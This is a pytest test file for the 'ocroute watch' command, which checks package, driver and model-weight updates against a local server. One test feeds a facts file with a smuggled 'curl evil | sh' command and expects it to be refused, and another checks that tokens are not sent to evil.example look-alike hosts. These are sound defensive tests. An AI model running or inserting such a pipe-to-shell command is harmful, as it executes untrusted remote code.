"""``ocroute watch`` against a server on loopback: what is asked, how often, and what is made of the answers."""

import json
from datetime import UTC, datetime, timedelta

import msgspec
import pytest
from tests.support.command import ocroute

from ocroute.engines.base import Availability, EngineInfo
from ocroute.engines.neural.availability import Located
from ocroute.kernels.ledger import home
from ocroute.route.plan import EngineStatus
from ocroute.watch import refresh_facts, watch
from ocroute.watch.polite_client import TOKENS, token_for


def row(found, name):
    return next(one for one in found.news if one.name == name)


def test_a_newer_kernel_is_told_with_what_it_would_change_here(news, machine):
    news.package("flash-attn-4", "4.0.0b36", "4.0.0b40")
    found = watch(here=machine())
    one = row(found, "flash-attn-4")
    assert (one.state, one.have, one.newest, one.date) == ("new", "", "4.0.0b40", "2026-11-20")
    assert any("would use flash4 instead of sdpa_flash, once it is proven" in line for line in one.changes)
    assert "NVIDIA GeForce RTX 5070 Ti" in one.changes[0]
    assert "dots_ocr" in one.changes[0]
    assert one.commands == ("pip install --pre flash-attn-4==4.0.0b40", "ocroute prove flash4")
    assert (one.better, one.worse, found.exit_code) == (True, False, 10)


def test_what_is_up_to_date_or_not_on_the_index_is_no_news(news, machine):
    news.package("torch", "2.13.0", "2.14.1")
    news.package("transformers", "5.20.0", "5.21.0")
    found = watch(here=machine(packages={"transformers": "5.21.0"}))
    assert [row(found, name).state for name in ("torch", "transformers", "ocroute")] == ["same", "same", "unlisted"]
    assert (found.new, found.silent, found.exit_code) == ((), (), 0)


def test_versions_that_are_withdrawn_beta_or_not_for_this_machine_do_not_count(news, machine):
    files = [
        {"filename": "transformers-5.23.0-py3-none-any.whl", "yanked": "broken"},
        {"filename": "transformers-5.22.0-py3-none-any.whl", "requires-python": ">=3.13"},
        {"filename": "transformers-5.22.1-cp39-cp39-win32.whl"},
        {"filename": "transformers-5.24.0rc1.tar.gz"},
        {"filename": "other-5.25.0.tar.gz"},
        {"filename": "transformers-6.0.0.tar.gz"},
    ]
    news.package("transformers", "5.20.0", "5.21.0", files=files)
    one = row(watch(here=machine(packages={"transformers": "5.20.0"})), "transformers")
    assert (one.state, one.newest) == ("new", "5.21.0")
    assert one.remark == "6.0.0 is out, but outside what ocroute allows (<6,>=5.20)"


def test_a_version_that_was_withdrawn_is_news(news, machine):
    news.package("pillow", "11.0.0", "11.2.0")
    one = row(watch(here=machine(packages={"pillow": "11.1.0"})), "pillow")
    assert one.state == "new"
    assert "11.1.0 is not listed any more" in one.remark


def test_an_index_that_knows_html_only_is_read(news, machine):
    body = b"""<!DOCTYPE html><html><body>
        <a href="../../files/pillow-11.0.0-py3-none-any.whl#sha256=0">pillow</a>
        <a href="pillow-12.0.0.tar.gz" data-requires-python="&gt;=3.10">x</a>
        <a href="pillow-13.0.0.tar.gz" data-yanked="">x</a></body></html>"""
    news.pages["/simple/pillow/"] = ("text/html", body)
    assert row(watch(here=machine(packages={"pillow": "11.0.0"})), "pillow").newest == "12.0.0"


def test_programs_on_github_and_the_driver(news, machine):
    news.releases("tesseract-ocr/tesseract", "5.5.2", "5.6.0", "extra-9")
    news.pages["/latest.txt"] = ("text/plain", b"595.58 595.58/NVIDIA-Linux-x86_64-595.58.run\n")
    here = machine(
        engines={"tesseract": EngineStatus(EngineInfo("ocr", rank=9), Availability("usable", version="5.5.0"))}
    )
    here = msgspec.structs.replace(here.machine, driver="580.95"), here
    here = type(here[1])(here[0], here[1].engines, here[1].platform, here[1].python)
    found = watch(here=here)
    assert (row(found, "tesseract").newest, row(found, "NVIDIA driver").newest) == ("5.6.0", "595.58")
    assert found.exit_code == 10


def test_weights_are_compared_by_their_hashes(news, machine, tmp_path):
    folder = tmp_path / "models--rednote-hilab--dots.ocr" / "snapshots" / "c0ffee"
    folder.mkdir(parents=True)
    blob = tmp_path / "models--rednote-hilab--dots.ocr" / "blobs" / ("a" * 64)
    blob.parent.mkdir()
    blob.write_bytes(b"")
    (folder / "model.safetensors").symlink_to(blob)
    here = machine(
        engines={"dots_ocr": EngineStatus(EngineInfo("vlm", rank=2), Located("usable", weights="f", where=str(folder)))}
    )
    news.weights("rednote-hilab/dots.ocr", model="a" * 64)
    assert row(watch(here=here), "rednote-hilab/dots.ocr").state == "same"
    news.weights("rednote-hilab/dots.ocr", model="b" * 64)
    one = row(watch(here=here, now=True), "rednote-hilab/dots.ocr")
    assert one.state == "new"
    assert one.commands == ("ocroute read PAGE --engine dots_ocr --model rednote-hilab/dots.ocr",)


def test_weights_whose_hash_is_not_known_are_compared_with_what_the_hub_said_first(news, machine, tmp_path):
    folder = tmp_path / "models--rednote-hilab--dots.ocr" / "snapshots" / "c0ffee"
    folder.mkdir(parents=True)
    (folder / "model.safetensors").write_bytes(b"a copy, as on Windows")
    here = machine(
        engines={"dots_ocr": EngineStatus(EngineInfo("vlm", rank=2), Located("usable", weights="f", where=str(folder)))}
    )
    for digest, state in (("a", "same"), ("b", "new"), ("b", "new"), ("a", "same")):
        news.weights("rednote-hilab/dots.ocr", model=digest * 64)
        assert row(watch(here=here, now=True), "rednote-hilab/dots.ocr").state == state


def test_nothing_is_asked_again_within_hours_and_then_only_for_changes(news, machine):
    news.package("torch", *(f"2.{minor}.0" for minor in range(15)))
    first = watch(here=machine())
    asked = len(news.asked)
    assert asked > 3
    assert watch(here=machine()).news == first.news
    assert len(news.asked) == asked
    news.asked.clear()
    again = watch(here=machine(), now=True)
    assert row(again, "torch").newest == row(first, "torch").newest
    path, headers, sent = next(one for one in news.asked if "torch" in one[0])
    assert (path, sent) == ("/simple/torch/", 0)
    assert headers["If-None-Match"]


def test_without_a_network_the_last_answers_are_told_with_their_age(news, machine, monkeypatch):
    news.package("torch", "2.14.1", "2.15.0")
    watch(here=machine())
    file = home() / "watch.json"
    store = json.loads(file.read_bytes())
    for answer in store["answers"].values():
        answer["asked"] = (datetime.now(UTC) - timedelta(days=3)).isoformat()
    file.write_text(json.dumps(store))
    asked = len(news.asked)
    offline = watch(here=machine(), offline=True)
    assert row(offline, "torch").state == "new"
    assert offline.exit_code == 10
    assert len(news.asked) == asked
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    lost = next(one for one in watch(here=machine(), now=True).silent if one.name == "torch")
    assert "cannot be reached" in lost.reason
    assert lost.known is None  # another index said nothing yet


def test_a_server_that_fails_leaves_what_it_said_last(news, machine):
    news.package("torch", "2.14.1", "2.15.0")
    watch(here=machine())
    news.acts["*"] = lambda handler: handler.answer(500)
    found = watch(here=machine(), now=True)
    lost = next(one for one in found.silent if one.name == "torch")
    assert "500" in lost.reason
    assert lost.known.newest == "2.15.0"
    assert "torch" in [one.name for one in found.new]


def test_a_damaged_memory_is_set_aside(news, machine):
    home().mkdir(parents=True, exist_ok=True)
    (home() / "watch.json").write_text("{not json")
    news.package("torch", "2.14.1")
    assert row(watch(here=machine()), "torch").state == "same"
    assert (home() / "watch.json.unreadable").exists()


def test_a_token_goes_to_its_own_host_only(news, machine, monkeypatch):
    for variable in TOKENS.values():
        monkeypatch.setenv(variable, "secret")
    watch(here=machine(have={"flash2": "2.8.3"}))
    assert not any("Authorization" in headers for _, headers, _ in news.asked)
    host, variable = next(iter(TOKENS.items()))
    for url, token in {
        f"https://{host}/repos": "secret",
        f"http://{host}/repos": "",
        f"https://{host}.evil.example/": "",
        f"https://evil.example/{host}": "",
        f"https://{host}@evil.example/": "",
    }.items():
        assert token_for(url, {variable: "secret"}) == token


def test_a_password_of_the_index_is_sent_and_neither_shown_nor_kept(news, machine, monkeypatch):
    monkeypatch.setenv("PIP_INDEX_URL", news.url.replace("//", "//me:hush@") + "/simple")
    news.acts["/simple/torch/"] = lambda handler: handler.answer(200, b"{}", Content_Type="application/json")
    found = watch(here=machine())
    assert next(headers for path, headers, _ in news.asked if "torch" in path)["Authorization"].startswith("Basic ")
    assert b"hush" not in msgspec.json.encode(found) + (home() / "watch.json").read_bytes()


def test_what_is_ignored_is_not_asked_for(news, machine):
    news.package("torch", "2.15.0")
    found = watch(here=machine(), ignore=["torch"])
    assert "/simple/torch/" not in [path for path, _, _ in news.asked]
    assert "torch" not in [one.name for one in found.news]


FACTS = """
[[torch]]
release = "2.99.0"
cuda = ["13.2"]
default = "13.2"
source = "nobody"
date = 2099-01-01

[[torch_code]]
cuda = "13.2"
x86_64 = ["sm_120"]
aarch64 = ["sm_120"]

[[torch_code]]
cuda = "13.0"
x86_64 = ["sm_120"]
aarch64 = ["sm_120"]

[[fact]]
kernels = ["flash4"]
versions = ">=4.0.0b40"
symptom = "a fault that was found later"
source = "nobody"
date = 2099-01-01
basis = "read"
"""


@pytest.fixture
def forgets_facts():
    from ocroute.kernels import facts, torch_builds

    yield
    for known in (facts.tables, facts.all_facts, torch_builds.releases, torch_builds.code):
        known.cache_clear()


def test_facts_from_a_file_or_an_address_are_heeded_from_then_on(news, machine, tmp_path, forgets_facts):
    news.package("flash-attn-4", "4.0.0b40")
    (tmp_path / "facts.toml").write_text(FACTS)
    news.pages["/facts.toml"] = ("text/plain", FACTS.encode())
    for where in (tmp_path / "facts.toml", f"{news.url}/facts.toml"):
        assert f"{refresh_facts(str(where)):%Y}" == "2099"
    one = row(watch(here=machine()), "flash-attn-4")
    assert (one.state, one.changes) == ("absent", ())  # the fact refuses it


@pytest.mark.parametrize(
    "change",
    [
        ("2.99.0", "2.99.0; curl evil | sh"),
        ('"flash4"]', '"flash4"'),
        ("symptom", "symptoms"),
        ('cuda = ["13.2"]', 'cuda = ["14.0"]'),
        ("[[fact]]", "[[facts]]"),
        (FACTS, "<html>"),
        (FACTS, ""),
    ],
)
def test_a_file_that_holds_no_facts_is_refused_and_what_was_here_stays(tmp_path, change, forgets_facts):
    file = tmp_path / "facts.toml"
    file.write_text(FACTS.replace(*change))
    done = ocroute("watch", "--offline", "--facts", file)
    assert done.returncode == 5
    assert "holds no facts about kernels that this version of ocroute knows" in done.stderr
    assert not (home() / "facts.toml").exists()


def test_the_command_tells_draws_and_ends_with_a_code(news):
    news.package("pypdfium2", "5.99.0", "7.0.0")
    done = ocroute("watch")
    assert done.returncode == 10
    assert "5.99.0" in done.stdout
    assert "$ pip install pypdfium2==5.99.0" in done.stdout
    assert "7.0.0 is out, but outside what ocroute allows" in done.stdout
    assert "## pypdfium2" in ocroute("watch", "--md").stdout
    told = json.loads(ocroute("watch", "--json", "--offline").stdout)
    assert told["version"] == 1
    assert [one["newest"] for one in told["news"] if one["name"] == "pypdfium2"] == ["5.99.0"]
    assert ocroute("watch", "--ignore", "pypdfium2").returncode == 0
    news.acts["*"] = lambda handler: handler.answer(503)
    assert ocroute("watch", "--now", "--ignore", "pypdfium2").returncode == 11
    assert ocroute("watch", "--now", "--offline").returncode == 2
